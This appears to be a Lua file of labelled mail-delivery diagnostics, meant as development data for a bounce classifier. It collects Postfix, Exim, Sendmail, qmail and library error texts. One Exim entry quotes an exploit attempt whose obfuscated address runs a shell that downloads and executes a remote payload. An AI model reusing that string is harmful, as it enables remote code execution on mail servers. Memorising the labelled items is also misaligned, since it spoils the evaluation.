-- Fresh dev batch (round 9, first part): diagnostics WITHOUT a reply code
-- and without an enhanced status, as sending MTAs, delivery agents and
-- client libraries write them: masqmail, smail 3, OpenSMTPD's queue,
-- Postfix, Exim, Sendmail and qmail log and bounce lines quoted in forum
-- posts, list mails and log parsers' test data, a Lotus Domino NDR from a
-- Microsoft KB article, and the error texts of Rust, .NET, Java and
-- Node.js mail libraries.  Labelled from what each source says (the log's
-- status, the MTA's defer/fail branch, the bounce's "permanent error", or
-- the poster's account; reason and action by the policy of
-- accuracy/corpus/README.md), before any was classified.  Log lines keep
-- their status= part, their dsn= field is left out.  Format strings are
-- filled with documentation values (example.net, 192.0.2.x); each such
-- entry says so.  "code index file id N" names a file read through the
-- public code index.
local E = dofile("accuracy/entry.lua")
local e = E
local A, O = "address", "other"
local B, D = "bounced", "deferred"

local FILLED = " (format string filled with documentation values)"
local MASQ = function (file, fn) return "github.com/ossilator/masqmail src/" .. file .. " " .. fn .. FILLED end
local idx = E.index

return {
  -- {==================================================================
  -- masqmail, smail 3, OpenSMTPD, lettre: the sending side's own words
  -- ===================================================================
  e(O, D, "networkerror", "retry", MASQ("smtp_out.c", "smtp_out_log_failure() (smtp_timeout; smtp_out_mark_rcpts() marks the recipients deferred)"),
    "The SMTP conversation with the remote host timed out; the recipients stay deferred.",
    [==[host=mx.example.net connection timed out.]==]),
  e(O, D, "networkerror", "retry", MASQ("smtp_out.c", "smtp_out_log_failure() (smtp_eof; deferred like a timeout)"),
    "The remote host closed the connection before the conversation ended; deferred.",
    [==[host=mx.example.net connection terminated prematurely.]==]),
  e(O, D, "networkerror", "retry", MASQ("deliver.c", "deliver_msglist_host_smtp() (smtp_out_open() failed; recipients deferred unless connect_error_fail)"),
    "masqmail could not open the connection (refused); the message is kept for a later run.",
    "could not open connection to mx.example.net:25 :\n\tConnection refused"),
  e(O, D, "networkerror", "retry", MASQ("deliver.c", "deliver_msglist_host_smtp() (hstrerror(h_errno) of a failed lookup; deferred unless connect_error_fail)"),
    "The connection could not be opened because the host name did not resolve; deferred by default.",
    "could not open connection to mx.example.net:25 :\n\tUnknown host"),
  e(O, D, "networkerror", "retry", MASQ("deliver.c", "deliver_msglist_host_smtp() (hstrerror TRY_AGAIN)"),
    "The host lookup failed for now; the connection was not opened, deferred.",
    "could not open connection to mx.example.net:25 :\n\tHost name lookup failure"),
  e(O, B, "networkerror", "contact", idx("47651540886", "smail 3.2 src/transport.c call_transports(), ERR_145: the addresses are failed and an error goes back to the sender"),
    "The hop count would pass the maximum: assumed to be a mail loop between two sites; failed.",
    [==[loop detection: maximum hop count exceeded]==]),
  e(O, D, "networkerror", "retry", idx("47912916221", "smail 3.2 src/transports/tcpsmtp.c tpd_tcpsmtp(): the address goes to the defer list through connect_failure()") .. FILLED,
    "The next host's IP address was not found: a connect failure, retried later.",
    [==[IP address for mx.example.net not found]==]),
  e(O, B, "expired", "contact", idx("5783389839", "OpenSMTPD scheduler_ramqueue.c ramqueue_expire(): the envelope is bounced") .. FILLED,
    "The message stayed in the queue past its expiry time and is bounced.",
    [==[message expired after sitting in queue for 4 days]==]),
  e(O, D, "networkerror", "retry", "github.com/lettre/lettre src/transport/smtp/error.rs (Error::Resolution)",
    "lettre could not resolve the SMTP server's host name: a DNS failure on the way, the send may be tried again.",
    [==[could not resolve hostname]==]),
  e(O, D, "undefined", "retry", "github.com/lettre/lettre src/transport/smtp/error.rs (Error::Transient with an empty response)",
    "A transient (4xx) SMTP error whose reply had no text: retry.",
    [==[transient error during SMTP transaction]==]),

  -- {==================================================================
  -- Postfix log lines: DNS, TLS, loops, lost connections, local agents
  -- ===================================================================
  e(O, D, "networkerror", "retry", idx("56954859931", "issue text quoting a Postfix smtp log line"),
    "The MX lookup failed for now (try again); Postfix defers.",
    [==[to=<glider@smtp.oladeleodugbemi.net>, relay=none, delay=16426, delays=16426/0.14/0/0, status=deferred (Host or domain name not found. Name service error for name=smtp.oladeleodugbemi.net type=MX: Host not found, try again)]==]),
  e(O, D, "networkerror", "retry", idx("12389214688", "a log parser's comments quoting a Postfix error(8) line"),
    "Deliveries to the domain are suspended after a temporary MX lookup failure; deferred.",
    [==[status=deferred (delivery temporarily suspended: Host or domain name not found. Name service error for name=gmaill.com type=MX: Host not found, try again)]==]),
  e(A, B, "hostunknown", "suppress", idx("28312098254", "a Postfix log analyser's test data"),
    "The recipient's domain has no address record of the requested type: bounced.",
    [==[status=bounced (Host or domain name not found. Name service error for name=hotmai.com type=A: Host found but no data record of requested type)]==]),
  e(A, B, "hostunknown", "suppress", idx("56938720409", "forum post: Postfix log line"),
    "The recipient host name does not exist: Postfix bounced the message.",
    [==[to=<someuser@yosemite>, relay=none, delay=0, status=bounced (Host or domain name not found. Name service error for name=yosemite type=AAAA: Host not found)]==]),
  e(A, B, "hostunknown", "suppress", idx("4569419159", "a log parser's sample Postfix lines"),
    "The recipient domain does not resolve: bounced.",
    [==[status=bounced (Host or domain name not found. Name service error for name=gbianco.191.it type=AAAA: Host not found)]==]),
  e(O, D, "securityerror", "retry", idx("24314577741", "a TLS policy test script's sample Postfix log line"),
    "Postfix requires TLS for this destination and the server did not offer STARTTLS: deferred.",
    [==[status=deferred (TLS is required, but was not offered by host valid-example-recipient.com[192.168.33.7])]==]),
  e(O, D, "securityerror", "retry", idx("56930606158", "forum post: Postfix smtp log line (relay smtp.gmail.com:587)"),
    "The TLS handshake with the relay failed: deferred.",
    [==[to=<rich.jacot@gmail.com>, relay=smtp.gmail.com[72.14.247.109]:587, delay=3634, delays=3633/0.04/0.37/0, status=deferred (Cannot start TLS: handshake failure)]==]),
  e(O, D, "securityerror", "retry", idx("52791348038", "relay set-up guide, 'TLS Errors' section"),
    "The server certificate could not be verified: Postfix defers the message.",
    [==[status=deferred (certificate verification failed)]==]),
  e(O, D, "securityerror", "retry", idx("52791348038", "relay set-up guide, 'TLS Errors' section"),
    "No cipher both sides support: the TLS session fails, deferred.",
    [==[status=deferred (no matching cipher found)]==]),
  e(O, B, "securityerror", "fix", idx("59406375899", "TLS troubleshooting table, 'Postfix verify' row") .. FILLED,
    "The peer's certificate chain has an untrusted issuer (self-signed or missing intermediate); the delivery waits.",
    [==[certificate verification failed for mx.example.net[192.0.2.25]:25: untrusted issuer]==]),
  e(O, D, "norelaying", "retry", idx("51992954847", "Postfix troubleshooting table of deferral reasons"),
    "The next server thinks the message is not for it (wrong MX, or the domain lost a DNS record); deferred.",
    [==[status=deferred (Relay access denied)]==]),
  e(O, B, "networkerror", "contact", idx("47137286617", "Postfix smtp log line"),
    "The destination's MX points back to this host: a loop, bounced.",
    [==[to=<root@mail.jasuindo.co.id>, relay=mail.jasuindo.co.id[45.64.4.181]:25, delay=1.1, delays=0.02/1.1/0.02/0, status=bounced (mail for mail.jasuindo.co.id loops back to myself)]==]),
  e(O, B, "networkerror", "contact", idx("56781575196", "forum thread 'Postfix: mail for golightwave.com loops back to myself'"),
    "Mail for the domain is routed back to the sending host: Postfix returns it (loop).",
    [==[mail for golightwave.com loops back to myself]==]),
  e(O, D, "networkerror", "retry", idx("21156886743", "blog post quoting a Postfix lmtp log line"),
    "The connection to the local LMTP server was lost before its greeting: deferred.",
    [==[status=deferred (lost connection with andromeda.parodybit.net[private/dovecot-lmtp] while receiving the initial server greeting)]==]),
  e(O, D, "networkerror", "retry", idx("56892995445", "forum post: Postfix log line"),
    "Deliveries are suspended after the LMTP connection was lost at the greeting; deferred.",
    [==[status=deferred (delivery temporarily suspended: lost connection with marcusforsberg.net[private/dovecot-lmtp] while receiving the initial server greeting)]==]),
  e(O, D, "networkerror", "retry", idx("14428213287", "a mailq parser's test data"),
    "The remote server did not send its greeting in time; the message waits in the deferred queue.",
    [==[conversation with p.nsm.ctmail.com[216.163.188.57] timed out while receiving the initial server greeting]==]),
  e(O, D, "networkerror", "retry", idx("56713525186", "forum post: a Postfix delay notice (Final-Recipient part)"),
    "A delay notice: the connection to the content filter was lost; delivery is still being tried.",
    [==[<jmituzas@nexwrx.local>: delivery temporarily suspended: lost connection with 127.0.0.1[127.0.0.1] while receiving the initial server greeting]==]),
  e(O, D, "networkerror", "retry", idx("56799340264", "forum post: Postfix mail.info line"),
    "The connection to Gmail's MX timed out: deferred.",
    [==[status=deferred (connect to alt4.gmail-smtp-in.l.google.com[209.85.143.26]:25: Connection timed out)]==]),
  e(O, D, "networkerror", "retry", idx("11215194949", "set-up notes: amavis not listening"),
    "The local content filter refused the connection: deferred until it runs again.",
    [==[status=deferred (connect to 127.0.0.1[127.0.0.1]:10024: Connection refused)]==]),
  e(O, D, "networkerror", "retry", idx("56970456181", "forum post: Postfix log lines"),
    "The recipient's server refused the connection: deferred.",
    [==[to=<bqepztqnz54@kamelot-clan.com>, relay=none, delay=15704, delays=15704/0.03/0.31/0, status=deferred (connect to kamelot-clan.com[174.120.120.151]:25: Connection refused)]==]),
  e(O, D, "systemerror", "retry", idx("57017745919", "forum post: Postfix lmtp to Cyrus"),
    "Postfix may not open Cyrus's LMTP socket (permissions): the local system's fault, deferred.",
    [==[status=deferred (connect to nike.voittoporukka.fi[/var/run/cyrus/socket/lmtp]: Permission denied)]==]),
  e(A, B, "userunknown", "suppress", idx("56917841849", "forum post: Postfix local(8) log line"),
    "local(8) has no such user: bounced.",
    [==[to=<aretab@babel-laptop.localhost>, relay=local, delay=0.34, delays=0.23/0.02/0/0.1, status=bounced (unknown user: "aretab")]==]),
  e(A, B, "userunknown", "suppress", idx("56968643296", "forum post: Postfix virtual(8) log line"),
    "virtual(8) found no mailbox for the address: bounced.",
    [==[to=<bob/@domain.com>, orig_to=<bob@domain.com>, relay=virtual, delay=29, delays=29/0.01/0/0.06, status=bounced (unknown user: "bob/@domain.com")]==]),
  e(O, D, "mailboxfull", "retry", idx("40677438988", "admin notes: sample entries of a deferred queue"),
    "maildrop refused the delivery, the maildir is over quota; the message stays deferred.",
    [==[(temporary failure. Command output: maildrop: maildir over quota.)]==]),
  e(O, D, "systemerror", "retry", idx("56865727116", "forum post: the status Webmin shows for queued mail"),
    "The pipe to maildrop could not be executed (permission denied): the local system's fault, deferred.",
    [==[temporary failure. Command output: pipe: fatal: pipe_command: execvp /usr/bin/maildrop: Permission denied]==]),

  -- {==================================================================
  -- Exim
  -- ===================================================================
  e(O, B, "mailboxfull", "suppress", idx("38083601313", "an Exim bounce mail (Status: 5.0.0, Action: failed)"),
    "The mailbox stayed full until Exim's retry time ran out: a permanent failure.",
    "This message was created automatically by mail delivery software.\n\nA message that you sent could not be delivered to one or more of its\nrecipients. This is a permanent error. The following address(es) failed:\n\n  admin@menherbalenhancement.com\n    (generated from maudedthb9515@menherbalenhancement.com)\n    mailbox is full: retry timeout exceeded"),
  e(O, B, "expired", "contact", idx("23848554261", "list mail quoting an Exim bounce"),
    "Every host for the domain had failed for longer than the retry rules allow: the address failed for good.",
    "A message that you sent could not be delivered to one or more of its\nrecipients. This is a permanent error. The following address(es) failed:\n\n  arno@natisbad.org\n    all hosts for 'natisbad.org' have been failing for a long time (and retry time not reached)"),
  e(O, D, "networkerror", "retry", idx("56777230255", "forum post: exim4 mainlog line"),
    "Exim defers: the hosts are in their retry wait after earlier failures.",
    [==[== <personal_email_address@yahoo.com> R=dnslookup_relay_to_domains T=remote_smtp defer (-53): retry time not reached for any host]==]),
  e(O, D, "networkerror", "retry", idx("4375894768", "an Exim log grammar's test lines"),
    "Deferred: every host of the domain is waiting for its retry time.",
    [==[== editor@defense-a.com R=vmail_user T=remote_smtp_proxy defer (-53): retry time not reached for any host for 'defense-a.com']==]),
  e(O, D, "networkerror", "retry", idx("56819557895", "forum post: exim4 mainlog line; the address written as user@example.com where the post masks it"),
    "The DNS lookup for the recipient's host did not complete: deferred.",
    [==[== user@example.com R=dnslookup defer (-1): host lookup did not complete]==]),
  e(A, B, "hostunknown", "suppress", idx("66698022960", "admin notes quoting an Exim bounce"),
    "No router could route the address (the domain is not a known one): failed.",
    "  debian@localhost\n    (generated from root@localhost)\n    Unrouteable address"),
  e(O, B, "networkerror", "contact", idx("44965448435", "issue text quoting an Exim log line of an exploit attempt"),
    "Exim failed the address: too many Received headers, a suspected mail loop.",
    [==[** root+${run{\x2Fbin\x2Fsh\t-c\t\x22wget\x2064.50.180.45\x2fsx\x20\x2dO\x20sx\x3bchmod\x20\x2bx\x20sx\x3b\x2e\x2fsx\x22}}@servername.tld: Too many "Received" headers - suspected mail loop]==]),

  -- {==================================================================
  -- qmail, Sendmail
  -- ===================================================================
  e(O, D, "expired", "contact", idx("10857092388", "list mail quoting a qmail bounce; outcome from the (#4.4.1) status, as the policy reads a code-less reply"),
    "qmail could never connect and gave up: the message was in the queue too long.",
    "<linux-computone@lazuli.wittsend.com>:\nSorry, I wasn't able to establish an SMTP connection. (#4.4.1)\nI'm not going to try again; this message has been in the queue too long."),
  e(O, D, "networkerror", "retry", idx("56926284913", "forum post: sendmail -v -q output"),
    "The relay refused the connection: the message stays queued.",
    [==[Running /var/spool/mqueue/r7KC82jb030432 (sequence 19 of 19)<user@domain.com>... Deferred: Connection refused by server.domain.local.domain.com.]==]),
  e(O, D, "networkerror", "retry", idx("56894449045", "forum post: sendmail mail.log status"),
    "The remote server refuses the connection: deferred.",
    [==[stat= Deferred: Connection refused by viva.com.ph]==]),
  e(O, D, "networkerror", "retry", idx("57064332858", "forum post: sendmail mail.info line"),
    "Gmail's MX refused the connection: deferred.",
    [==[stat=Deferred: Connection refused by alt4.gmail-smtp-in.l.google.com.]==]),
  e(O, D, "networkerror", "retry", idx("57120495913", "forum post: sendmail log lines"),
    "The connection timed out: deferred.",
    [==[relay=example.com. [208.77.188.166], stat=Deferred: Connection timed out with example.com.]==]),
  e(O, B, "expired", "contact", idx("57120495913", "forum post: sendmail log lines"),
    "sendmail gave up after five days and notified the sender.",
    [==[mAO2tx04010773: mB26PuEl004811: sender notify: Cannot send message for 5 days]==]),
  e(A, B, "hostunknown", "suppress", idx("34622891345", "a log parser's comment quoting a sendmail line"),
    "The recipient's domain name does not exist (a typo): bounced.",
    [==[to=<prasmatic@outlook.comm>, delay=00:00:00, xdelay=00:00:00, mailer=esmtp, pri=31235, relay=outlook.com., stat=Host unknown (Name server: outlook.comm: host not found)]==]),
  e(O, B, "networkerror", "contact", idx("7981190496", "blog post on sendmail through stunnel"),
    "sendmail connected to itself: a configuration loop, the mail is returned.",
    [==[SYSERR(root) config error: mail loops back to me (MX problem)]==]),
  e(O, D, "networkerror", "retry", idx("57142071505", "forum post: subject of a sendmail delay warning"),
    "A warning only: the message has not been delivered for four hours and sendmail keeps trying.",
    [==[Warning: could not send message for past 4 hours]==]),

  -- {==================================================================
  -- Lotus Domino (Microsoft KB), client libraries
  -- ===================================================================
  e(O, B, "networkerror", "contact", idx("16084108091", "Microsoft KB article: the NDR a Lotus Notes server returns") .. FILLED,
    "The Notes router has no route to the destination domain (its Server, Connection and Domain documents): not delivered.",
    [==[No route found to domain LOTUSDOMAIN from server SERVERNAME/LOTUSDOMAIN. Check Server, Connection and Domain documents in Name and Address book.]==]),
  e(A, B, "hostunknown", "suppress", idx("61337875736", "a direct-to-MX sender's MailError") .. FILLED,
    "The recipient's domain has no MX record: there is nowhere to deliver.",
    "Could not find a mail server for jdoe@example.org.\nThe domain has no MX record, so there is nowhere to deliver it."),
  e(O, D, "networkerror", "retry", idx("4538187218", "MailKit SmtpStream: SmtpProtocolException when the read returns nothing"),
    "The SMTP server closed the connection unexpectedly: a network failure, try again.",
    [==[The SMTP server has unexpectedly disconnected.]==]),
  e(O, D, "networkerror", "retry", idx("46393627522", "issue text: a Hutool/JavaMail stack trace"),
    "The client could not connect to its SMTP server: nothing was sent, retry later.",
    [==[cn.hutool.extra.mail.MailException: MessagingException: Could not connect to SMTP host: smtp.163.com, port: 465]==]),
  e(O, D, "networkerror", "retry", idx("2179868422", "an error mapper's comment quoting JavaMail's UnknownHostException message"),
    "JavaMail could not resolve the SMTP host it was configured with: nothing was sent.",
    [==[Unknown SMTP host: foobar]==]),
  e(O, D, "networkerror", "retry", idx("30815856282", "nodemailer's SMTP connection, greeting timer (code ETIMEDOUT)"),
    "The SMTP server never sent its greeting: a connection timeout.",
    [==[Greeting never received]==]),
}
